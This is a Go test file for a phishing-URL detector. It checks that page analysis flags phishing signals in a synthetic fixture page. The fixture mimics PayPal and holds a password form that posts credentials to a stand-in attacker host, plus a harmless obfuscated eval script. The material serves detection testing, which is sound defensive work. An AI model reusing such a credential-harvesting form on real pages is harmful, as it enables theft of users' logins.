package extractor

import (
	"net/url"
	"strings"
	"testing"

	"github.com/csaibalakrishna/URL-DETECTOR/pkg/probe"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const phishingPage = `<!DOCTYPE html>
<html>
<head>
  <title>Account verification</title>
  <link rel="shortcut icon" href="https://cdn.paypal-assets.example.net/favicon.ico">
</head>
<body oncontextmenu="return false;">
  <iframe src="https://tracker.example.net/frame"></iframe>
  <form action="https://collect.evil.example.ru/post.php" method="post">
    <input type="text" name="email">
    <input type="PASSWORD" name="pass">
  </form>
  <a href="https://www.paypal.com/help">Help</a>
  <a href="https://www.paypal.com/privacy">Privacy</a>
  <a href="/local">Local</a>
  <a href="#top">Top</a>
  <a href="javascript:void(0)">Nothing</a>
  <p>Questions? Write to support@secure-mail.example.com</p>
  <button onclick="window.open('https://ads.example.net')">Continue</button>
  <script>eval(unescape('%61%6c%65%72%74'));</script>
  <script src="/static/app.js"></script>
</body>
</html>`

func page(t *testing.T, body, requestURL, finalURL string) *probe.Page {
	t.Helper()
	req, err := url.Parse(requestURL)
	require.NoError(t, err)
	final := req
	if finalURL != "" {
		final, err = url.Parse(finalURL)
		require.NoError(t, err)
	}
	return &probe.Page{RequestURL: req, FinalURL: final, StatusCode: 200, Body: []byte(body)}
}

func TestAnalyzePagePhishingSignals(t *testing.T) {
	s, err := analyzePage(page(t, phishingPage, "http://login-check.example.com/", ""), "login-check.example.com")
	require.NoError(t, err)

	assert.Equal(t, 3, s.Links, "fragments and javascript links are skipped")
	assert.Equal(t, 2, s.ExternalLinks)
	assert.InDelta(t, 2.0/3.0, s.externalRatio(), 1e-9)
	assert.True(t, s.PasswordForm)
	assert.True(t, s.ExternalFormAction)
	assert.True(t, s.Iframe)
	assert.True(t, s.FaviconExternal)
	assert.Equal(t, 1, s.ObfuscatedScripts)
	assert.True(t, s.RightClickDisabled)
	assert.True(t, s.PopupWindow)
	assert.True(t, s.EmailInPage)
	assert.False(t, s.RedirectedOffHost)
}

func TestAnalyzePageBenign(t *testing.T) {
	body := `<html><head><link rel="icon" href="/favicon.ico"></head>
<body><form action="/search"><input type="text" name="q"></form>
<a href="/about">About</a><a href="https://blog.example.com/">Blog</a>
<script>console.log("ready")</script></body></html>`

	s, err := analyzePage(page(t, body, "https://www.example.com/", ""), "www.example.com")
	require.NoError(t, err)

	assert.Equal(t, pageSignals{Links: 2}, s)
}

func TestAnalyzePageRedirectOffHost(t *testing.T) {
	s, err := analyzePage(page(t, "<html><body>moved</body></html>", "https://bit.ly/x", "https://phish.example.tk/landing"), "bit.ly")
	require.NoError(t, err)
	assert.True(t, s.RedirectedOffHost)
}

func TestAnalyzePageMailtoCountsAsEmail(t *testing.T) {
	s, err := analyzePage(page(t, `<a href="mailto:help@example.org">mail us</a>`, "https://example.org/", ""), "example.org")
	require.NoError(t, err)
	assert.True(t, s.EmailInPage)
	assert.Zero(t, s.Links)
}

func TestAnalyzePageToleratesBrokenMarkup(t *testing.T) {
	body := "<html><body><div><a href='/x'>unclosed" + strings.Repeat("<p>", 50)
	s, err := analyzePage(page(t, body, "https://example.org/", ""), "example.org")
	require.NoError(t, err)
	assert.Equal(t, 1, s.Links)
}

func TestAnalyzePageWithoutURL(t *testing.T) {
	_, err := analyzePage(&probe.Page{Body: []byte("<html></html>")}, "example.org")
	assert.Error(t, err)
}
